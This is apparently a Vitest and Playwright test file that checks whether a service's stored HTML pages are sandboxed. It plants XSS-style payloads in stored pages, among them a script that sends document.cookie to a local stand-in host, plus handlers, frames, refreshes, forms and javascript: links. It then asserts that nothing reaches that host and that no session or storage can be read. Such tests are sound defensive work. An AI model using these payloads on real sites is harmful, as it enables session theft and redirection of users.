import { createServer } from 'node:http';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { storePages } from '#lib/service/stored-pages/stored-pages';
import { launchBrowser } from '#tests/support/browser';
import { addressOf, startService } from '#tests/support/service';

const run = await startService();
/** Another site, which keeps what is sent to it. */
const reached: string[] = [];
const elsewhere = createServer((request, response) => {
  reached.push(`${request.method} ${request.url}`);
  response.end('elsewhere');
});
await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done));
const there = addressOf(elsewhere);
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  elsewhere.closeAllConnections();
  elsewhere.close();
  await run.stop();
});

/** Opens a stored page as somebody with a session on the same host does. */
async function openStored(html: string): Promise<Page> {
  const { id } = await run.newOrganization();
  const [address = ''] = await storePages(run.service, id, [`<!doctype html><title>stored</title>${html}`]);
  const context = await browser.newContext();
  await context.addCookies([{ name: 'answerscope.session', value: 'secret', url: run.baseUrl }]);
  const page = await context.newPage();
  await page.goto(address.replace(run.service.settings.STORAGE_URL, `${run.baseUrl}/storage`));
  await page.waitForLoadState('networkidle');
  return page;
}

test.each([
  ['a script', `<script>document.title = 'ran'; fetch('${there}/script?' + document.cookie)</script>`],
  ['a handler', `<img src="data:," onerror="document.title = 'ran'; location = '${there}/handler'">`],
  ['a script of another site', `<script src="${there}/script.js"></script>`],
  ['a style of another site', `<link rel="stylesheet" href="${there}/style.css">`],
  ['a frame', `<iframe src="${there}/frame"></iframe><object data="${there}/object"></object>`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${there}/refresh">`],
  ['a base', `<base href="${there}/"><script src="base.js"></script>`],
  ['an address that is a script', `<a id="go" href="javascript:document.title='ran'">go</a>`],
  ['a form', `<form id="form" action="${there}/form" method="post"><button id="go">go</button></form>`],
  ['a new window', `<a id="go" href="${there}/window" target="_blank" rel="opener">go</a>`],
  ['the top window', `<a id="go" href="${there}/top" target="_top">go</a>`],
])('%s in a stored page reaches nobody and does nothing', async (what, html) => {
  reached.length = 0;
  const page = await openStored(html);
  // A link that a reader follows of their own will may lead on; it takes nothing along.
  const mayLead = what === 'the top window';
  await page
    .locator('#go')
    .click({ timeout: 2_000 })
    .catch(() => {});
  await page.waitForLoadState('networkidle');
  expect(await page.title()).toBe(mayLead ? '' : 'stored');
  expect(reached.filter((request) => !request.endsWith('/favicon.ico'))).toEqual(mayLead ? ['GET /top'] : []);
  expect(page.context().pages()).toHaveLength(1);
  await page.context().close();
});

test('stored pages run in an opaque origin without access to sessions or storage', async () => {
  const page = await openStored('<p>stored</p>');
  expect(await page.evaluate(() => window.origin)).toBe('null');
  const readings = await page.evaluate(() =>
    [() => document.cookie, () => localStorage.length, () => indexedDB.open('x')].map((read) => {
      try {
        return String(read());
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    }),
  );
  expect(readings).toEqual(['SecurityError', 'SecurityError', 'SecurityError']);
  await page.context().close();
});
